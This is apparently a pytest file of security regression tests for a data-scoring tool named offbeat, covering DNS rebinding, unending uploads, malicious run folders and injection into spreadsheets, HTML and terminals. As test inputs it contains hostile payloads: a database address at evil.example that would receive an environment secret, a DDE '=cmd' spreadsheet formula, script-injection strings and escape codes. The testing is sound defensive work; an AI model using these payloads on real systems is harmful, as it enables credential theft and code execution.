"""Attacks from places that are no party: a page in the owner's browser, a caller of the scoring service, a folder that
somebody sends, and text in tables that is opened by another program."""

import asyncio
import csv
import http.client
import json
import shutil
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

pytest.importorskip("grpc", reason="needs the extra 'grpc'")
pytest.importorskip("starlette", reason="needs the extra 'serve'")

from offbeat.audit.own_side import audit_own
from offbeat.cli import app
from offbeat.cli.output import write_csv
from offbeat.data import sql
from offbeat.errors import BadInput
from offbeat.jobs import elsewhere
from offbeat.orgs.discreet import printable
from offbeat.orgs.health import Health
from offbeat.orgs.replay import replay_own
from offbeat.orgs.service import app as service_app
from offbeat.orgs.service.app import Service
from offbeat.orgs.service.batches import Batches
from offbeat.orgs.service.callers import Caller, Quotas, TooMuch
from offbeat.report import live_server

# -- a page from elsewhere, whose name resolves to this machine --------------------------------------------------------


def told_by_health(address: str, **headers: str) -> bytes:
    health = Health(address, lambda: "", lambda: 'offbeat_rows_used_total{asker="bank"} 7\n')
    host, _, port = health.start().rpartition(":")
    try:
        connection = http.client.HTTPConnection(host, int(port), timeout=30)
        connection.request("GET", "/metrics", headers=headers)
        return connection.getresponse().read()
    finally:
        health.stop()


def test_a_page_from_elsewhere_reads_no_numbers_of_a_daemon() -> None:
    """Before: a page in the owner's browser whose name resolves to 127.0.0.1 read which runs there are, with whom, how
    often each asker has used rows, and what is left of the budget."""
    assert b"offbeat" not in told_by_health("127.0.0.1:0", Host="evil.example:9464")
    for name in ("127.0.0.1:9464", "localhost", "LOCALHOST:1", "[::1]:9464"):
        assert b'asker="bank"' in told_by_health("127.0.0.1:0", Host=name)


def a_service(folder: Path, **caller: Any) -> Service:
    service = Service.__new__(Service)
    service.quotas, service.batches = Quotas(folder), Batches(folder, "run-1", lambda ids: None)  # type: ignore[arg-type, return-value]
    service.caller = lambda request: Caller(name="web", digest="", **caller)  # type: ignore[method-assign]
    service.reading, service.calling = Counter(), Counter()
    return service


def test_a_page_from_elsewhere_reads_no_numbers_of_a_service(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before: the same way, who may call it and how many rows each has asked for."""
    service = a_service(tmp_path)
    monkeypatch.setattr(service, "families", list)
    client = ("127.0.0.1", 1)

    async def asked(host: str) -> int:
        scope = {"type": "http", "method": "GET", "path": "/metrics", "query_string": b"", "scheme": "http",
                 "headers": [(b"host", host.encode())], "client": client}  # fmt: skip
        return (await service.metrics(service_app.Request(scope))).status_code

    assert [asyncio.run(asked(host)) for host in ("127.0.0.1:8443", "localhost:8443", "evil.example:8443")] == [
        200, 200, 404,
    ]  # fmt: skip


# -- a caller of the scoring service -----------------------------------------------------------------------------------


class Sending:
    """A request with this body; `sent` is how many chunks of it were read."""

    def __init__(self, chunk: bytes) -> None:
        self.chunk, self.sent = chunk, 0

    async def stream(self) -> AsyncIterator[bytes]:
        while self.chunk:
            self.sent += 1
            yield self.chunk
        await asyncio.Event().wait()  # nothing comes any more, and no end


def test_empty_lines_without_end_are_no_upload(tmp_path: Path) -> None:
    """Before: they counted as no rows, so they were read for ever, at the cost of a core."""
    service, body = a_service(tmp_path), Sending(b"\n" * 2**19)
    with pytest.raises(BadInput, match="at most 5,000,000 ids"):
        asyncio.run(asyncio.wait_for(service.new_batch(body), 60))  # type: ignore[arg-type]
    assert body.sent == 10 and not service.batches.all()


def test_calls_that_never_end_hold_no_place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before: each held a connection for as long as its caller liked, as many as the service could open."""
    monkeypatch.setattr(live_server.body_of, "__defaults__", (0.01,))
    monkeypatch.setattr(service_app, "QUIET_S", 0.01)
    service = a_service(tmp_path)
    for call in (service.score, service.new_batch):
        with pytest.raises(BadInput, match=r"come to its end within 0.01 s|nothing came for 0.01 s"):
            asyncio.run(asyncio.wait_for(call(Sending(b"")), 60))  # type: ignore[arg-type]
    assert not service.calling["web"] and not service.batches.all()
    monkeypatch.undo()

    async def crowd() -> list[Any]:
        calls = [asyncio.create_task(service.score(Sending(b""))) for _ in range(65)]  # type: ignore[arg-type]
        done, open_ = await asyncio.wait(calls, return_when=asyncio.FIRST_COMPLETED, timeout=30)
        for call in open_:
            call.cancel()
        return [call.exception() for call in done]

    (refused,) = asyncio.run(crowd())
    assert isinstance(refused, TooMuch), "of one caller; others are heard"


# -- a folder that somebody sends --------------------------------------------------------------------------------------

JOB = """\
penalty = 1e-2
passes = 2
[[party]]
name = "bank"
file = "bank.csv"
id = "customer"
label = "default"
[[party]]
name = "shop"
file = "shop.csv"
id = "customer"
[[party]]
name = "telecom"
file = "telecom.csv"
id = "customer"
"""
THEIRS = "postgresql+psycopg://x:${OFFBEAT_ATTACKED}@evil.example/db?table=t"


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run folder, as `offbeat run` makes it."""
    place = tmp_path_factory.mktemp("sent")
    rng = np.random.default_rng(0)
    for name in ("bank", "shop", "telecom"):
        label = ",default" if name == "bank" else ""
        rows = (f"{i},{rng.normal():.3f}{f',{i % 2}' if label else ''}" for i in range(120))
        (place / f"{name}.csv").write_text(f"customer,x_{name}{label}\n" + "\n".join(rows) + "\n")
    (place / "job.toml").write_text(JOB)
    done = CliRunner().invoke(app, ["run", str(place / "job.toml"), "--out", str(place / "run")])
    assert done.exit_code in (0, 3), done.output
    return place / "run"


def refused(*words: str) -> str:
    done = CliRunner().invoke(app, list(words))
    assert done.exit_code == 2, done.output
    return done.stderr


def test_a_folder_that_names_a_database_is_not_sent_a_password(sent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before: `offbeat replay` and `audit` of a folder from elsewhere sent any variable of their reader's environment,
    as a password, to the host that the folder names."""
    opened: list[str] = []
    monkeypatch.setattr(sql, "_opened", lambda address: opened.append(address))
    monkeypatch.setenv("OFFBEAT_ATTACKED", "my-token")
    kept = (sent / "job.toml").read_text()
    telecom = next(line for line in kept.splitlines() if "telecom.csv" in line)
    try:
        (sent / "job.toml").write_text(kept.replace(telecom, f'table = "{THEIRS}"'))
        for command in ("replay", "audit", "worth"):
            told = refused(command, str(sent))
            assert "--connect" in told and "evil.example" in told and "my-token" not in told
        assert not opened
        CliRunner().invoke(app, ["replay", str(sent), "--connect"])
        assert opened == [THEIRS], "whoever knows the database says so"
    finally:
        (sent / "job.toml").write_text(kept)


def test_what_parties_are_worth_imports_nothing_that_a_folder_names(
    sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: of all commands that do a run again, `offbeat worth` alone imported the module of the folder's job."""
    imported: list[str] = []
    monkeypatch.setattr(elsewhere, "import_module", imported.append)
    kept = (sent / "job.toml").read_text()
    method = next(line for line in kept.splitlines() if line.startswith("algorithm"))
    try:
        (sent / "job.toml").write_text(kept.replace(method, 'algorithm = "evil:METHOD"'))
        for command in ("replay", "audit", "worth"):
            assert "--method evil:METHOD" in refused(command, str(sent))
    finally:
        (sent / "job.toml").write_text(kept)
    assert imported == []


@pytest.mark.parametrize(
    ("method", "table", "flag"), [("evil:METHOD", None, "--method"), ("vfb2-saga", THEIRS, "--connect")]
)
def test_a_home_from_elsewhere_allows_itself_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, method: str, table: str | None, flag: str
) -> None:
    """Before: `offbeat audit HOME/runs/RUN` asked the policy of that home which code may be imported, and its settings
    where the rows are: of a home that somebody sent, both are the sender's."""
    imported: list[str] = []
    monkeypatch.setattr(elsewhere, "import_module", imported.append)
    job = f'name = "j"\nparties = ["shop", "bank", "x"]\nlabels_at = ["bank"]\n[method]\nalgorithm = "{method}"\n'
    (tmp_path / "runs" / "j-1").mkdir(parents=True)
    (tmp_path / "runs" / "j-1" / "job.toml").write_text(job)
    data = SimpleNamespace(table=table)
    home: Any = SimpleNamespace(name="shop", runs=tmp_path / "runs", config=SimpleNamespace(data=data))
    home.identity = lambda: None
    with pytest.raises(BadInput, match=flag):
        replay_own(home, "j-1")
    monkeypatch.setattr("offbeat.audit.own_side.home_of", lambda folder: home)
    record: Any = SimpleNamespace(machine={})
    monkeypatch.setattr("offbeat.audit.own_side.RunRecord.read", lambda folder: record)
    monkeypatch.setattr("offbeat.audit.own_side.computing_as_on", lambda machine: memoryview(b""))
    with pytest.raises(BadInput, match=flag):
        audit_own(tmp_path / "runs" / "j-1")
    assert imported == []


# -- text that another program opens -----------------------------------------------------------------------------------


def test_text_in_a_table_is_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    """Before: an id, a class or a category such as =HYPERLINK(...) went into the files of `predict` and `export` as it
    is, and a spreadsheet that opens them works it out."""
    evil = ['=HYPERLINK("http://evil")', "=cmd|' /C calc'!A0", "@SUM(1+1)*x", "+x(1)", "-2+cmd|x", "\t=x(1)", " =x!y"]
    plain = ["+49 30 1234", "-5", "-1e-3", "+(030) 5", "@ana", "=", "c1", "a=b(c)", "-"]
    write_csv([{"id": text, "score": -1.5} for text in (*evil, *plain)], tmp_path / "s.csv")
    with (tmp_path / "s.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == [*("'" + text for text in evil), *plain]
    assert {row["score"] for row in rows} == {"-1.5"}, "numbers stay numbers"


def test_a_peers_words_hold_no_letter_that_is_not_seen() -> None:
    """Before: a refusal could hold marks of direction and letters without width: two that look the same and differ."""
    for hidden in "\u200b\u200e\u061c\ufeff\u2060\u206f\U000e0041":
        assert printable(f"refused{hidden} by the bank") == "refused? by the bank"
    assert printable("Größe über 5 €: 名前") == "Größe über 5 €: 名前"


def test_a_folder_that_is_sent_moves_no_cursor(sent: Path, tmp_path: Path) -> None:
    """Before: `offbeat report` of a folder from elsewhere printed the escape codes of its record; a record that
    contradicts itself ended with an error that nobody foresaw."""
    record = json.loads((sent / "record.json").read_text())
    evil = "\x1b]0;owned\x07\x1b[2J\u202e</script><script>alert(1)</script>"
    wild = {**record, "reason": evil, "digest": evil, "warnings": [evil], "metrics": {evil: 1.0}}
    (tmp_path / "record.json").write_text(json.dumps(wild))
    shutil.copy(sent / "job.toml", tmp_path)
    for words in (["report", str(tmp_path)], ["compare", str(tmp_path), str(sent)]):
        done = CliRunner().invoke(app, words)
        assert done.exit_code == 0 and not {"\x1b", "\x07", "\u202e"} & set(done.output), done.output
    assert "<script>alert" not in (tmp_path / "report.html").read_text()
    wild["data"]["classes"], seen = ["a", "b", "c"], record["held_out"]
    assert len(seen["confusion"]) == 2
    (tmp_path / "record.json").write_text(json.dumps(wild))
    assert "has 3 classes and counts 2" in refused("report", str(tmp_path))
    job = (sent / "job.toml").read_text().replace("telecom.csv", "\\u001b[2Jtelecom.csv")
    (tmp_path / "job.toml").write_text(job)
    assert "\x1b" not in refused("run", str(tmp_path / "job.toml"))


def test_what_stands_in_tables_is_text_on_every_page(sent: Path, tmp_path: Path) -> None:
    """Names of columns, classes and categories that are markup, for a browser or for a terminal."""
    place, wild = sent.parent, '</script><script>alert(1)</script>[/][bold]$x_{"'
    for name in ("bank", "shop", "telecom"):
        with (place / f"{name}.csv").open(newline="") as file:
            rows = list(csv.reader(file))
        rows[0][1] = f"{name}{wild}"
        for i, row in enumerate(rows[1:]):
            row[2:] = [f"{wild}{i % 2}"] if name == "bank" else []
            row[1] = f"{wild}{i % 3}" if name == "shop" else row[1]
        with (tmp_path / f"{name}.csv").open("w", newline="") as file:
            csv.writer(file).writerows(rows)
    (tmp_path / "job.toml").write_text(JOB)
    done = CliRunner().invoke(app, ["run", str(tmp_path / "job.toml"), "--out", str(tmp_path / "run")])
    assert done.exit_code in (0, 3), done.output
    page = (tmp_path / "run" / "report.html").read_text()
    assert "<script>alert" not in page and "alert(1)" in page
    assert "<script>" not in (tmp_path / "run" / "model_card.md").read_text().replace("\\<", "")
